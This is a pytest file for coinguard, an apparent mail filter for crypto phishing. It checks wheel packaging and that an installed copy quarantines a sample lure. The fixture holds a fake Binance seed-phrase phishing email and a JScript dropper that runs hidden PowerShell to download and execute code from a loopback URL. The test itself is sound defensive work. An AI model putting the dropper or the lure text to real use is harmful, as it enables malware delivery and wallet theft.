"""The wheel ships its data, and a plain (non-editable) install works outside the checkout.

``coinguard/data/`` in the checkout holds symlinks to the top-level ``rules/`` and the lure and
brand lists in ``config/``; building the wheel must copy the files they point to.  The ``wheel``
test then installs that wheel with its dependencies into a fresh venv under a temp dir and runs
the installed ``coinguard`` from a directory outside the checkout (issue 9 §3).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from helpers import REPO, make_message

# DKIM lookups go to a closed loopback port (no DNS leaves the host)
OFFLINE = '[dkim]\nnameservers = ["127.0.0.1"]\ndns_port = 9\ndns_timeout_s = 0.5\n'

JSCRIPT_DROPPER = (
    b'var s = new ActiveXObject("WScript.Shell");\r\n'
    b"s.Run(\"powershell -nop -w hidden -c iex(New-Object Net.WebClient).DownloadString('http://127.0.0.1/a')\");\r\n"
)


def lure_message() -> bytes:
    """A crypto lure (wallet, seed phrase, an exchange brand) carrying a script dropper: quarantined."""
    return make_message(
        subject="Urgent: verify your Binance wallet to avoid suspension",
        body="Dear customer,\nYour wallet withdrawal is locked. Verify your seed phrase and private key"
        " within 24 hours to unlock your account.\nOpen the attached wallet recovery tool.\n",
        attachments=[("wallet-recovery.pdf.js", JSCRIPT_DROPPER, "application/javascript")],
    )


def _clean_env() -> dict[str, str]:
    """The environment without anything that would point Python at the checkout."""
    return {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "PYTHONHOME", "VIRTUAL_ENV")}


@pytest.fixture(scope="module")
def wheel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The wheel built from the checkout (with this interpreter's setuptools: no download)."""
    out = tmp_path_factory.mktemp("wheel")
    proc = subprocess.run(
        [sys.executable, "-m", "pip", "wheel", "--no-deps", "--no-build-isolation", "--disable-pip-version-check",
         "-q", "-w", str(out), str(REPO)],
        capture_output=True, text=True, timeout=300, env=_clean_env(), cwd=out,
    )
    assert proc.returncode == 0, proc.stderr
    (built,) = out.glob("coinguard-*.whl")
    return built


def test_checkout_data_links_point_at_the_top_level_folders() -> None:
    data = REPO / "milter" / "coinguard" / "data"
    assert (data / "rules").resolve() == (REPO / "rules").resolve()
    assert (data / "lures.txt").resolve() == (REPO / "config" / "lures.txt").resolve()
    assert (data / "brands.toml").resolve() == (REPO / "config" / "brands.toml").resolve()
    assert (data / "shorteners.txt").resolve() == (REPO / "config" / "shorteners.txt").resolve()
    assert (data / "templates").resolve() == (REPO / "config" / "templates").resolve()


def test_wheel_contains_every_rule_file_and_both_lists(wheel: Path) -> None:
    expected = {f"coinguard/data/rules/{p.relative_to(REPO / 'rules').as_posix()}": p
                for p in (REPO / "rules").rglob("*") if p.is_file()}
    expected["coinguard/data/lures.txt"] = REPO / "config" / "lures.txt"
    expected["coinguard/data/brands.toml"] = REPO / "config" / "brands.toml"
    expected["coinguard/data/shorteners.txt"] = REPO / "config" / "shorteners.txt"
    expected |= {f"coinguard/data/templates/{p.name}": p for p in (REPO / "config" / "templates").glob("*.j2")}
    expected |= {f"coinguard/console/{p.relative_to(REPO / 'milter' / 'coinguard' / 'console').as_posix()}": p
                 for d in ("templates", "static") for p in (REPO / "milter" / "coinguard" / "console" / d).glob("*")}
    assert any(name.endswith(".yar") for name in expected)
    with zipfile.ZipFile(wheel) as zf:
        names = set(zf.namelist())
        missing = sorted(set(expected) - names)
        assert not missing, f"not in the wheel: {missing[:5]}"
        for name, source in expected.items():
            assert zf.read(name) == source.read_bytes(), name
        assert "coinguard/py.typed" in names
        assert not any(n.startswith(("rules/", "config/", "tests/")) for n in names)


@pytest.mark.wheel
def test_installed_wheel_checks_rules_and_quarantines_a_lure(wheel: Path, tmp_path: Path) -> None:
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True, timeout=300, env=_clean_env())
    pip = subprocess.run(
        [str(venv / "bin" / "pip"), "install", "--disable-pip-version-check", "--progress-bar", "off", str(wheel)],
        capture_output=True, text=True, timeout=1200, env=_clean_env(), cwd=tmp_path,
    )
    assert pip.returncode == 0, pip.stdout[-3000:] + pip.stderr[-3000:]
    work = tmp_path / "elsewhere"  # not the checkout: nothing may be found relative to it
    work.mkdir()
    (work / "coinguard.toml").write_text(OFFLINE)
    (work / "lure.eml").write_bytes(lure_message())
    exe = str(venv / "bin" / "coinguard")

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([exe, *args], capture_output=True, text=True, timeout=300, env=_clean_env(), cwd=work)

    site = subprocess.run([str(venv / "bin" / "python"), "-c", "import coinguard; print(coinguard.__file__)"],
                          capture_output=True, text=True, check=True, env=_clean_env(), cwd=work).stdout.strip()
    assert Path(site).is_relative_to(venv) and "site-packages" in site, site  # non-editable, in the venv

    rules = run("rules", "check")
    assert rules.returncode == 0, rules.stdout + rules.stderr
    assert rules.stdout.splitlines()[-1].startswith("OK: ") and " rules in " in rules.stdout

    check = run("config", "check", "-c", "coinguard.toml")
    assert check.returncode == 0, check.stderr
    shipped = [line for line in check.stdout.splitlines() if line.startswith(("dirs =", "lures_file", "brands_file"))]
    assert len(shipped) == 3 and all(str(venv) in line and str(REPO) not in line for line in shipped), shipped

    scan = run("scan", "--json", "-c", "coinguard.toml", "lure.eml")
    assert scan.returncode == 1, scan.stderr
    verdict = json.loads(scan.stdout)
    assert verdict["verdict"] == "malicious" and verdict["action"] == "quarantine", verdict
    theme = {f["code"] for f in verdict["findings"] if f["code"].startswith("crypto.")}
    assert theme and verdict["crypto_theme"] > 0, verdict["findings"]
